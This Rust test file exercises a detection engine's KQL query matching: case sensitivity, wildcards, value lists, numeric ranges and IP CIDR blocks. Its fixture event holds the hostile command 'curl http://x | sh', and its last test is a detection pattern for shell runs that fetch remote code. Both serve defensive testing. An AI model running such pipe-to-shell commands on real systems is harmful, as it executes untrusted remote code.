//! KQL semantics on real events, through the compiled filter the engine runs.

use auditwatch::detect::kql;
use auditwatch::event::Event;
use serde_json::json;

fn event() -> Event {
    Event::from_json(&json!({
        "event": {"category": ["process"], "type": ["start"], "action": "exec"},
        "process": {"name": "Bash", "pid": 4242, "args": ["bash", "-c", "curl http://x | sh"], "args_count": 3,
                    "interactive": true, "executable": "/usr/bin/bash", "working_directory": "/tmp/a*b"},
        "destination": {"ip": "10.20.30.40", "port": 443},
        "source": {"ip": "fe80::1"},
        "auditd": {"data": {"a1": "2"}},
        "file": {"path": "C:\\Temp\\x (1).so"}
    }))
}

fn m(q: &str) -> bool {
    kql::parse(q)
        .unwrap_or_else(|e| panic!("{q}: {e:?}"))
        .matches(&event())
}

#[test]
fn keyword_matching_is_exact_and_case_sensitive() {
    assert!(m("process.name:Bash"));
    assert!(!m("process.name:bash"));
    assert!(!m("process.name:Bas"));
    assert!(m(r#"process.executable:"/usr/bin/bash""#));
}

#[test]
fn multi_valued_fields_match_if_any_value_does() {
    assert!(m("process.args:-c"));
    assert!(m("event.category:process and event.type:start"));
    assert!(m(r#"process.args:"curl http://x | sh""#));
    assert!(!m("process.args:curl"));
    assert!(m("process.args:curl*"));
    // `not` is the complement over all values.
    assert!(!m("not process.args:bash"));
    assert!(m("not process.args:zsh"));
}

#[test]
fn missing_fields() {
    assert!(!m("user.name:root"));
    assert!(m("not user.name:root"), "not of a missing field is true");
    assert!(!m("user.name:*"));
    assert!(m("process.name:*"));
    assert!(m("not user.name:*"));
}

#[test]
fn wildcards_are_case_sensitive_and_anchored() {
    assert!(m("process.name:Ba*"));
    assert!(!m("process.name:ba*"));
    assert!(m("process.name:*sh"));
    assert!(!m("process.name:*s"));
    assert!(m("process.executable:/usr/*/bash"));
    // An escaped star is literal; `?` is literal too.
    assert!(m(r"process.working_directory:/tmp/a\*b"));
    assert!(m(r"process.working_directory:/tmp/a\**"));
    assert!(!m(r"process.working_directory:/tmp/ab\**"));
    assert!(!m("process.name:B?sh"));
    assert!(m(r"file.path:C\:\\Temp\\x \(1\).so"));
}

#[test]
fn value_lists_and_boolean_structure() {
    assert!(m("process.name:(zsh or Bash)"));
    assert!(!m("process.name:(zsh or bash)"));
    assert!(m("process.args:(bash and -c)"));
    assert!(!m("process.args:(bash and -x)"));
    assert!(m("process.args:(* and not -x)"));
    assert!(m(
        "process.name:zsh or process.name:Bash and event.action:exec"
    ));
    assert!(!m(
        "(process.name:zsh or process.name:Bash) and event.action:end"
    ));
    assert!(m("not (process.name:zsh or event.action:end)"));
}

#[test]
fn numbers_booleans_and_ranges() {
    assert!(m("process.pid:4242"));
    assert!(m(r#"process.pid:"4242""#));
    assert!(m("auditd.data.a1:2"), "numeric text matches a number query");
    assert!(m("process.interactive:true"));
    assert!(!m("process.interactive:false"));
    assert!(m("process.args_count >= 3"));
    assert!(!m("process.args_count > 3"));
    assert!(m("process.args_count < 4 and process.args_count <= 3"));
    assert!(m("destination.port > 100"));
}

#[test]
fn ip_fields_match_cidr_blocks() {
    assert!(m("destination.ip:10.0.0.0/8"));
    assert!(!m("destination.ip:192.168.0.0/16"));
    assert!(m("destination.ip:10.20.30.40"));
    assert!(m(r#"source.ip:"FE80::/10""#));
    assert!(m(
        r#"not destination.ip:(127.0.0.0/8 or "::1" or 192.168.0.0/16)"#
    ));
}

#[test]
fn fixture_style_query() {
    let q = r#"event.category:process and event.action:(exec or executed) and
        process.name:(Bash or sh) and process.args:(* http* or */bin/curl*) and
        not process.args:(*127.0.0.1* or *localhost*)"#;
    assert!(m(q));
}
